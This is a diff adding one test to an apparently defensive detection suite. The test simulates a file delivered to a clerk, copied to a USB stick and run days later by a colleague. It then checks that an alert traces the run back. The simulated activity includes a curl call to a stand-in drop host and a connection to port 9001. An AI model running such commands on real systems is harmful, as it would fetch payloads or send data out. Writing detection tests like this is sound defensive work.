@@ -402,3 +402,18 @@ test('without a delivery log the story stops at medium and says what is missing'
     },
   );
 });
+
+test('whoever it came to need not be who ran it: a copy on a disk that no rule watches, run days later by a colleague', async () => {
+  const log = new HostLog();
+  const message = log.deliver();
+  log.wait(MINUTE);
+  const shell = log.shell('clerk');
+  const saved = '/home/clerk/label.run';
+  shell.run('/usr/bin/mutt').read(message.path).write(saved);
+  shell.run(`/usr/bin/cp ${saved} /media/stick/`).read(saved);
+  log.wait(2 * 24 * HOUR);
+  const runs = log.shell('buyer').run('/bin/bash label.run', { cwd: '/media/stick' });
+  runs.run('/usr/bin/curl http://drop.example.net/').connect('203.0.113.67', 9001);
+  const alert = firesAt(await scanLog(log), 'AN0656', 'high');
+  assert.match(alert.story, /\/media\/stick\/label\.run .* as buyer \(it came to clerk\)/);
+});
